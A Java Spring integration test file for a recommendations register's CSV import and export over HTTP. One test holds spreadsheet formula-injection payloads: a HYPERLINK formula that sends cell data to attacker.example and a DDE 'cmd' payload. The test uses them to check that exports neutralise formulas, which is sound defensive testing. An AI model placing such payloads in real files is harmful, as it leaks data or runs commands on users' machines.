package org.stocktake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ClassPathResource;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.jdbc.support.GeneratedKeyHolder;
import org.stocktake.support.HttpActor;
import org.stocktake.support.OnBothDatabases;
import org.stocktake.support.People;
import org.stocktake.support.StocktakeSpringTest;

/**
 * The register's import and export over HTTP, as a secretariat uses them: the Harris Review as its
 * progress report one year on left it, bad files refused whole, and every stage a legacy register
 * can give. Run on H2 and on PostgreSQL (see StocktakeSpringTest).
 */
@StocktakeSpringTest
@OnBothDatabases
class ImportOverHttpTest {

    static final MediaType CSV = MediaType.parseMediaType("text/csv");
    static final String HEADER = "review_code,review_title,review_kind,number,text,addressees,owner,status,update";

    @Autowired
    TestRestTemplate http;
    @Autowired
    JdbcClient jdbc;

    HttpActor admin;
    HttpActor secretariat;

    @BeforeEach
    void people() {
        admin = HttpActor.as(http, StocktakeSpringTest.ADMIN, StocktakeSpringTest.ADMIN_PASSWORD);
        new People(admin).organisation("mps", "Metropolitan Police Service").organisation("lfb", "London Fire Brigade")
                .user("import-sec", "secretariat")
                .user("import-lfb-lead", "lfb");
        secretariat = HttpActor.as(http, "import-sec", People.PASSWORD);
    }

    @Test
    void theHarrisReviewImportsAsItsProgressReportOneYearOnLeftIt() throws IOException {
        ResponseEntity<Map<String, Object>> imported = secretariat.postFile("/api/imports?fileName=harris-review-2016.csv", harris(), CSV);

        assertThat(imported.getStatusCode()).isEqualTo(HttpStatus.CREATED);
        assertThat(imported.getBody()).containsEntry("status", "COMPLETED").containsEntry("total", 127)
                .containsEntry("created", 127).containsEntry("unchanged", 0);
        assertThat(secretariat.get(imported.getHeaders().getLocation().getPath()).getBody()).containsEntry("processed", 127);
        assertThat(secretariat.getList("/api/recommendations?review=HARRIS-2016")).extracting(r -> r.get("businessKey"))
                .containsExactlyElementsOf(IntStream.rangeClosed(1, 127).mapToObj(n -> "HARRIS-2016/" + n).toList());
        assertThat(summary("HARRIS-2016")).containsEntry("RESOLVED", 73).containsEntry("RESOLVED_BY_OTHER_MEANS", 12)
                .containsEntry("AWAITING_ASSIGNMENT", 42).containsEntry("IN_PROGRESS", 0);
        assertThat(processInstances("HARRIS-2016", null)).isEqualTo(127);
        assertThat(processInstances("HARRIS-2016", true)).isEqualTo(85);
        assertThat(count("/engine-rest/task/count", Map.of("processInstanceBusinessKeyLike", "HARRIS-2016/%",
                "taskDefinitionKey", "Task_AssignOwner", "candidateGroup", "secretariat"))).isEqualTo(42);

        ResponseEntity<Map<String, Object>> again = secretariat.postFile("/api/imports", harris(), CSV);
        assertThat(again.getBody()).containsEntry("created", 0).containsEntry("unchanged", 127);
        assertThat(processInstances("HARRIS-2016", null)).isEqualTo(127);

        // the export, in the import format, imports back as unchanged
        ResponseEntity<String> export = secretariat.getText("/api/recommendations?review=HARRIS-2016", CSV);
        assertThat(export.getHeaders().getContentType().isCompatibleWith(CSV)).isTrue();
        assertThat(export.getBody()).startsWith("review_code,review_title,review_kind,received_on,bank_holidays,section,number,text,addressees,owner,status,update");
        assertThat(secretariat.upload("/api/imports?dryRun=true", "HARRIS-2016.csv", export.getBody().getBytes(StandardCharsets.UTF_8)).getBody())
                .containsEntry("status", "CHECKED").containsEntry("unchanged", 127).containsEntry("created", 0);
        assertThat(secretariat.getText("/api/recommendations?review=HARRIS-2016&format=csv", MediaType.ALL).getBody())
                .isEqualTo(export.getBody());

        // the timeline marks what was imported
        Object id = secretariat.getList("/api/recommendations?review=HARRIS-2016").get(28).get("id");
        Map<String, Object> timeline = secretariat.get("/api/recommendations/" + id + "/timeline").getBody();
        assertThat(timeline.toString()).contains("type=IMPORT", "Imported from harris-review-2016.csv as RESOLVED", "imported=true",
                "The MPS has reviewed the provision of Taser");
    }

    @Test
    void textASpreadsheetWouldTakeForAFormulaIsExportedAsTextAndImportsBackUnchanged() {
        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
        String file = HEADER + "\n"
                + "FORMULA-2026,Formulas,REVIEW,1,\"" + formula.replace("\"", "\"\"") + "\",,lfb,IN_PROGRESS,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
                + "FORMULA-2026,Formulas,REVIEW,2,-5 officers,,lfb,IN_PROGRESS,+44 20 7946 0000\n";
        assertThat(secretariat.postFile("/api/imports", file.getBytes(StandardCharsets.UTF_8), CSV).getStatusCode()).isEqualTo(HttpStatus.CREATED);

        String export = secretariat.getText("/api/recommendations?review=FORMULA-2026", CSV).getBody();
        String summary = secretariat.getText("/api/reviews/FORMULA-2026/public-summary", CSV).getBody();

        for (String csv : List.of(export, summary)) {
            assertThat(csv).contains("\"'" + formula.replace("\"", "\"\"") + "\"", "'@SUM(1+1)", "'-5 officers", "'+44 20 7946 0000")
                    .doesNotContain("," + formula.substring(0, 10), ",@SUM", ",-5 officers", ",+44");
        }
        ResponseEntity<Map<String, Object>> again = secretariat.upload("/api/imports", "FORMULA-2026.csv", export.getBytes(StandardCharsets.UTF_8));
        assertThat(again.getBody()).containsEntry("created", 0).containsEntry("unchanged", 2);
        assertThat(jdbc.sql("select text from recommendation where reference = '1' and review_id = (select id from review where code = 'FORMULA-2026')")
                .query(String.class).single()).isEqualTo(formula);
    }

    @Test
    void eachStageOfALegacyRegisterStartsItsProcessThere() {
        ResponseEntity<Map<String, Object>> imported = secretariat.postFile("/api/imports", csv(
                "STAGES-2026,Stages,INSPECTION,1,Respond to this.,mps,,,",
                "STAGES-2026,Stages,INSPECTION,2,Assign this.,,,AWAITING_ASSIGNMENT,",
                "STAGES-2026,Stages,INSPECTION,3,Carry this on.,,lfb,IN_PROGRESS,Halfway there.",
                "STAGES-2026,Stages,INSPECTION,4,This was not accepted.,,,NOT_ACCEPTED,Declined in 2015.",
                "STAGES-2026,Stages,INSPECTION,5,This went elsewhere.,,,Transferred,Sits with the Cabinet Office."), CSV);
        assertThat(imported.getStatusCode()).isEqualTo(HttpStatus.CREATED);

        assertThat(secretariat.getList("/api/recommendations?review=STAGES-2026")).extracting(r -> r.get("status"))
                .containsExactly("AWAITING_RESPONSE", "AWAITING_ASSIGNMENT", "IN_PROGRESS", "NOT_ACCEPTED", "TRANSFERRED");
        assertThat(waitingTasks("STAGES-2026/1")).containsExactly("Task_RecordResponse@mps");
        assertThat(waitingTasks("STAGES-2026/2")).containsExactly("Task_AssignOwner@secretariat");
        assertThat(waitingTasks("STAGES-2026/3")).containsExactly("Task_SubmitProgressUpdate@lfb");
        assertThat(HttpActor.as(http, "import-lfb-lead", People.PASSWORD).tasks("STAGES-2026/3")).hasSize(1);
        for (String closed : List.of("STAGES-2026/4", "STAGES-2026/5")) {
            List<Map<String, Object>> instances = admin.getList("/engine-rest/history/process-instance?maxResults=" + HttpActor.PAGE
                    + "&processInstanceBusinessKey=" + closed);
            assertThat(instances).singleElement().satisfies(instance -> assertThat(instance).containsEntry("state", "COMPLETED"));
            assertThat(admin.getList("/engine-rest/history/activity-instance?maxResults=" + HttpActor.PAGE
                    + "&activityId=EndEvent_RecommendationClosed&processInstanceId=" + instances.get(0).get("id"))).hasSize(1);
        }
    }

    static List<BadFile> badFiles() {
        return List.of(
                new BadFile("an empty file", new byte[0], null, null),
                new BadFile("a misspelt header", bytes("review_code,review_title,numbr,text\nBAD-2026,Bad,1,Text.\n"), 1, "numbr"),
                new BadFile("a missing value", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,,,,,\n"), 2, "text"),
                new BadFile("a reference twice", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,One.,,,,\nBAD-2026,Bad,REVIEW,1,Two.,,,,\n"), 3, "number"),
                new BadFile("an unknown status", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,Text.,,,FINISHED,\n"), 2, "status"),
                new BadFile("an unknown addressee", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,Text.,mps;nowhere-council,,,\n"), 2, "addressees"),
                new BadFile("an unknown owner", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,Text.,,nowhere-council,IN_PROGRESS,\n"), 2, "owner"),
                new BadFile("too many values", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,Text, unquoted,,,,\n"), 2, null),
                new BadFile("too few values", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1,Text.\n"), 2, null),
                new BadFile("text over the limit", bytes(HEADER + "\nBAD-2026,Bad,REVIEW,1," + "x".repeat(10_001) + ",,,,\n"), 2, "text"),
                new BadFile("a file that is not UTF-8", (HEADER + "\nBAD-2026,Caf\u00e9 review,REVIEW,1,Text.,,,,\n")
                        .getBytes(StandardCharsets.ISO_8859_1), null, null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badFiles")
    void aBadFileIsRefusedWithRowAndColumnAndNothingIsWritten(BadFile file) {
        long processInstancesBefore = count("/engine-rest/history/process-instance/count", Map.of());

        ResponseEntity<Map<String, Object>> refused = secretariat.postFile("/api/imports", file.content(), CSV);

        assertThat(refused.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(errors(refused)).first().satisfies(error -> {
            assertThat(error.get("row")).isEqualTo(file.row());
            assertThat(error.get("column")).isEqualTo(file.column());
            assertThat((String) error.get("message")).isNotBlank();
        });
        assertThat(secretariat.get("/api/reviews/BAD-2026").getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
        assertThat(count("/engine-rest/history/process-instance/count", Map.of())).isEqualTo(processInstancesBefore);
    }

    @Test
    void aFileOverTheSizeLimitIsRefusedWith413AsBodyAndAsUpload() {
        byte[] large = new byte[1024 * 1024 + 1];

        assertThat(secretariat.postFile("/api/imports", large, CSV).getStatusCode()).isEqualTo(HttpStatus.PAYLOAD_TOO_LARGE);
        assertThat(secretariat.upload("/api/imports", "large.csv", large).getStatusCode()).isEqualTo(HttpStatus.PAYLOAD_TOO_LARGE);
    }

    @Test
    void unknownOrganisationsAreCreatedWhenAsked() {
        byte[] file = csv("ORGS-2026,New organisations,REVIEW,1,Work together.,dorset-police;wessex-ambulance,,,");

        assertThat(secretariat.postFile("/api/imports?createOrganisations=true", file, CSV).getStatusCode()).isEqualTo(HttpStatus.CREATED);

        assertThat(admin.get("/engine-rest/group/wessex-ambulance").getBody()).containsEntry("type", "organisation");
        assertThat(waitingTasks("ORGS-2026/1")).containsExactlyInAnyOrder("Task_RecordResponse@dorset-police", "Task_RecordResponse@wessex-ambulance");
    }

    @Test
    void aChangedTextIsAConflictAndNothingOfTheFileIsImported() {
        secretariat.postFile("/api/imports", csv("EDIT-2026,Edits,REVIEW,1,The original text.,,,,"), CSV);

        ResponseEntity<Map<String, Object>> conflict = secretariat.postFile("/api/imports",
                csv("EDIT-2026,Edits,REVIEW,1,A reworded text.,,,,", "EDIT-2026,Edits,REVIEW,2,A new one.,,,,"), CSV);

        assertThat(conflict.getStatusCode()).isEqualTo(HttpStatus.CONFLICT);
        assertThat(errors(conflict)).singleElement().satisfies(error -> assertThat(error).containsEntry("row", 2).containsEntry("column", "text"));
        assertThat(secretariat.getList("/api/recommendations?review=EDIT-2026")).singleElement()
                .satisfies(recommendation -> assertThat(recommendation).containsEntry("text", "The original text."));
    }

    @Test
    void aDryRunReportsWhatWouldHappenAndWritesNothing() {
        ResponseEntity<Map<String, Object>> checked = secretariat.postFile("/api/imports?dryRun=true",
                csv("DRY-2026,Dry run,REVIEW,1,Text.,,,,", "DRY-2026,Dry run,REVIEW,2,Text.,,,,"), CSV);

        assertThat(checked.getStatusCode()).isEqualTo(HttpStatus.OK);
        assertThat(checked.getBody()).containsEntry("status", "CHECKED").containsEntry("created", 2).doesNotContainKey("id");
        assertThat(secretariat.get("/api/reviews/DRY-2026").getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
    }

    @Test
    void aLargeFileImportsInTheBackgroundWhileItsProgressCanBeRead() {
        String[] rows = IntStream.rangeClosed(1, 450).mapToObj(n -> "ASYNC-2026,Background,REVIEW," + n + ",Text " + n + ".,,,RESOLVED,Done.")
                .toArray(String[]::new);

        ResponseEntity<Map<String, Object>> accepted = secretariat.upload("/api/imports?async=true", "async.csv", csv(rows));

        assertThat(accepted.getStatusCode()).isEqualTo(HttpStatus.ACCEPTED);
        assertThat(accepted.getBody()).containsEntry("total", 450);
        String location = accepted.getHeaders().getLocation().getPath();
        Map<String, Object> job = await("the background import").atMost(Duration.ofMinutes(1)).until(() -> secretariat.get(location).getBody(),
                progress -> {
                    assertThat((Integer) progress.get("processed")).isBetween(0, 450);
                    return !"RUNNING".equals(progress.get("status"));
                });
        assertThat(job).containsEntry("status", "COMPLETED").containsEntry("processed", 450).containsEntry("created", 450);
        assertThat(secretariat.getList("/api/recommendations?review=ASYNC-2026")).hasSize(450);
    }

    @Test
    void anImportWhoseNodeDiedIsReportedAsFailedOnceItHasBeenSilentTooLong() {
        OffsetDateTime now = OffsetDateTime.now();
        long died = insertRunningImport("died.csv", now.minusMinutes(3));
        long alive = insertRunningImport("alive.csv", now.minusSeconds(5));

        assertThat(secretariat.get("/api/imports/" + died).getBody()).containsEntry("status", "FAILED").containsEntry("processed", 0)
                .containsEntry("failure", "The node running this import stopped before it finished; nothing of it was written."
                        + " Import the file again.");
        assertThat(secretariat.get("/api/imports/" + alive).getBody()).containsEntry("status", "RUNNING").containsEntry("processed", 200);
        jdbc.sql("update import_job set status = 'COMPLETED' where id = ?").param(alive).update();
    }

    /** What a node leaves behind when it is killed mid-import: the progress row, last said alive at {@code heartbeat}. */
    private long insertRunningImport(String fileName, OffsetDateTime heartbeat) {
        GeneratedKeyHolder key = new GeneratedKeyHolder();
        jdbc.sql("""
                insert into import_job (file_name, status, total, processed, started_by, started_at, heartbeat_at)
                values (?, 'RUNNING', 500, 200, 'import-sec', ?, ?)""").params(fileName, heartbeat.minusMinutes(1), heartbeat)
                .update(key, "id");
        return key.getKeyAs(Number.class).longValue();
    }

    @Test
    void onlyTheSecretariatImports() {
        HttpActor owner = HttpActor.as(http, "import-lfb-lead", People.PASSWORD);

        assertThat(owner.postFile("/api/imports", csv("NOPE-2026,No,REVIEW,1,Text.,,,,"), CSV).getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
        assertThat(HttpActor.anonymous(http).postFile("/api/imports", csv("NOPE-2026,No,REVIEW,1,Text.,,,,"), CSV).getStatusCode())
                .isEqualTo(HttpStatus.UNAUTHORIZED);
        assertThat(secretariat.get("/api/reviews/NOPE-2026").getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
    }

    record BadFile(String name, byte[] content, Integer row, String column) {

        @Override
        public String toString() {
            return name;
        }
    }

    static byte[] harris() throws IOException {
        try (InputStream file = new ClassPathResource("demo/harris-review-2016.csv").getInputStream()) {
            return file.readAllBytes();
        }
    }

    static byte[] csv(String... rows) {
        return bytes(HEADER + "\n" + String.join("\n", rows) + "\n");
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @SuppressWarnings("unchecked")
    private Map<String, Object> summary(String review) {
        return (Map<String, Object>) secretariat.get("/api/reviews/" + review + "/summary").getBody().get("byStatus");
    }

    private long processInstances(String review, Boolean finished) {
        return count("/engine-rest/history/process-instance/count", finished == null
                ? Map.of("processInstanceBusinessKeyLike", review + "/%")
                : Map.of("processInstanceBusinessKeyLike", review + "/%", "finished", finished));
    }

    private long count(String path, Map<String, Object> query) {
        return ((Number) admin.post(path, query).getBody().get("count")).longValue();
    }

    /** The open tasks of one recommendation, as key@candidate group. */
    private List<String> waitingTasks(String businessKey) {
        return admin.tasks(businessKey).stream().flatMap(task -> admin.getList("/engine-rest/task/" + task.get("id") + "/identity-links?type=candidate")
                .stream().map(link -> task.get("taskDefinitionKey") + "@" + link.get("groupId"))).toList();
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> errors(ResponseEntity<Map<String, Object>> problem) {
        return (List<Map<String, Object>>) problem.getBody().get("errors");
    }
}
